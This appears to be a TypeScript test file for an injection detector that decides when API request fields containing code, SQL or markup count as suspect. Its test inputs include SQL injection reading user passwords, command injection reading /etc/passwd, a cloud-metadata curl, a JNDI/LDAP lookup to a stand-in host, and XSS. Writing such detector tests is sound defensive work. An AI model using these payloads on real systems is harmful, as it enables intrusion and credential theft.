import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { suspectFields } from '../attackers/injectionSignal.ts';
import { exampleExchange, exampleJson } from '../exchange/exampleExchange.ts';
import { baselineOf } from '../anomalies/baseline.ts';
import { SUSPECT_WEIGHT } from './signature.ts';

const COMMAND = 'npm ci; cat /etc/os-release && docker push app';
const PAGE = '<p onclick="track(1)">Sale</p><script>window.dataLayer=[]</script>';
const CODE = 'import os\nos.system("ls -la")\n<?php system("id"); ?>';
const STATEMENT = "1' UNION SELECT name, password FROM users -- ";

/** Whether a body at a path is suspect, of an endpoint that is known to have no values in it. */
function isSuspect(path: string, body: unknown, values: readonly string[] = []): boolean {
  const exchange = exampleExchange({ method: 'POST', path, requestBody: exampleJson(body) });
  const pathValues = values.map((value) => ({ name: 'id', value }));
  return suspectFields(exchange, pathValues, null, []).some(
    ({ weight }) => weight >= SUSPECT_WEIGHT,
  );
}

describe('ENG-04 code where an API takes code', () => {
  for (const [what, path, body] of [
    ['a command of a pipeline', '/projects/pipelines', { jobs: [{ script: [COMMAND] }] }],
    [
      'an argument of a container',
      '/namespaces/jobs',
      { spec: { containers: [{ args: [COMMAND] }] } },
    ],
    ['what a machine runs first', '/v2/droplets', { user_data: `#!/bin/bash\n${COMMAND}` }],
    ['the source of a function', '/v1/functions/mail', { source: CODE }],
    ['a cell of a notebook', '/api/contents/a', { content: { cells: [{ source: CODE }] } }],
    ['a difference between files', '/pulls/comments', { diff_hunk: `-${CODE}` }],
    [
      'a question to a model',
      '/v1/chat/completions',
      { messages: [{ content: CODE + STATEMENT }] },
    ],
    ['a message to a model', '/v1/messages', { messages: [{ role: 'user', content: CODE }] }],
    ['a text to be translated', '/v2/translate', { text: [PAGE, STATEMENT] }],
    ['a line of a log', '/api/v2/logs', [{ service: 'web', message: `blocked: ${STATEMENT}` }]],
    [
      'a lookup in a line of a log',
      '/api/v2/logs',
      { message: 'agent ${jndi:ldap://x.example/a} refused' },
    ],
    [
      'the message of a report of an error, wherever it is sent',
      '/api/17/store/',
      {
        message: `near ${STATEMENT}`,
        exception: { values: [{ value: STATEMENT, stacktrace: { frames: [{ lineno: 4 }] } }] },
      },
    ],
    [
      'the title of one whose calls are a text',
      '/v1/crash-data',
      [{ title: `<script>alert(1)</script> in ${PAGE}`, stack_trace: 'at main.js:4' }],
    ],
    ['a remark on code', '/repos/pulls/comments', { body: CODE }],
    ['a rule of a firewall', '/firewall/rules', { expression: 'query contains "union select"' }],
    ['a page', '/admin/pages', { page: { body_html: PAGE } }],
    ['a template of a mail', '/v3/templates', { subject: '<%= code %> for {{ 7 | times: 7 }}' }],
  ] as const)
    it(`is no attack as ${what}`, () => assert.equal(isSuspect(path, body), false));

  for (const [what, path, body] of [
    ['a command in a name', '/projects/pipelines', { name: '; cat /etc/passwd' }],
    [
      'an address of a cloud in a command',
      '/pipelines',
      { script: 'curl http://169.254.169.254/latest/meta-data/' },
    ],
    ['markup in a message between people', '/v1/messages', { text: PAGE }],
    ['a statement in a page', '/admin/pages', { page: { body_html: STATEMENT } }],
    ['a statement in a code of a coupon', '/v1/coupons', { code: STATEMENT }],
    ['a command in a task', '/v1/tasks', { title: 'x', command: '; cat /etc/passwd' }],
    ['code in a comment', '/orders/comments', { content: CODE }],
    ['a statement in what is looked for in logs', '/logs/search', { value: STATEMENT }],
    ['a statement in the code of a worker', '/workers', { code: STATEMENT }],
    ['markup in the content of a report', '/reports/generate', { content: PAGE }],
    [
      'a statement in what a report of an error says of who',
      '/api/17/store/',
      { user: { name: STATEMENT }, stacktrace: [] },
    ],
    [
      'a statement in a message without the calls that led to it',
      '/api/17/store/',
      { message: STATEMENT },
    ],
    ['a lookup in a name', '/api/v2/logs', { service: '${jndi:ldap://x.example/a}' }],
  ] as const)
    it(`is one as ${what}`, () => assert.equal(isSuspect(path, body), true));

  it('is one where a value of the path, which callers choose, says that the API takes it', () => {
    assert.equal(isSuspect('/notes/functions', { source: CODE }), false);
    assert.equal(isSuspect('/notes/functions', { source: CODE }, ['functions']), true);
  });

  it('is none in the first request to an endpoint, if it is answered', () => {
    const first = (status: number): boolean =>
      suspectFields(
        exampleExchange({
          method: 'POST',
          path: '/v1/functions',
          status,
          requestBody: exampleJson({ source: CODE }),
        }),
        null,
        null,
        [],
      ).length > 0;
    assert.equal(first(201), false);
    assert.equal(first(404), true);
  });

  const parameter = (name: string, occurrences = 500) => ({
    side: 'request' as const,
    location: 'body' as const,
    name,
    contentType: 'application/json',
    occurrences,
    opportunities: 500,
    type: 'string' as const,
    otherTypes: [],
    format: null,
    confidence: 1,
    distinctValues: 300,
    enumValues: null,
    range: null,
    length99: 60,
    charClasses: [],
    usualClasses: [],
    required: true,
    isMap: false,
    objectId: false,
  });
  /** Whether a body is suspect at an endpoint that is known well, and known to take some fields. */
  function isSuspectAt(
    path: string,
    known: readonly string[],
    body: unknown,
    seldom: string | null = null,
  ): boolean {
    const options = { requests: 500, isAvailable: true };
    const baseline = baselineOf(
      known.map((name) => parameter(name, name === seldom ? 5 : 500)) as never,
      options,
    );
    const exchange = exampleExchange({ method: 'POST', path, requestBody: exampleJson(body) });
    return suspectFields(exchange, [], baseline, []).length > 0;
  }

  it('is one in a field that a well-known endpoint never had', () => {
    assert.equal(isSuspectAt('/admin/pages', ['body_html'], { body_html: PAGE }), false);
    assert.equal(isSuspectAt('/admin/pages', ['title'], { body_html: PAGE }), true);
  });

  it('is one in a message that somebody makes look like a report of an error', () => {
    const report = { message: STATEMENT, stacktrace: 'at main.js:4' };
    assert.equal(isSuspectAt('/store-17', ['message', 'stacktrace'], report), false);
    assert.equal(isSuspectAt('/store-17', ['message'], report), true);
    const known = ['message', 'stacktrace'];
    assert.equal(isSuspectAt('/store-17', known, report, 'stacktrace'), true, 'taught by a few');
  });
});
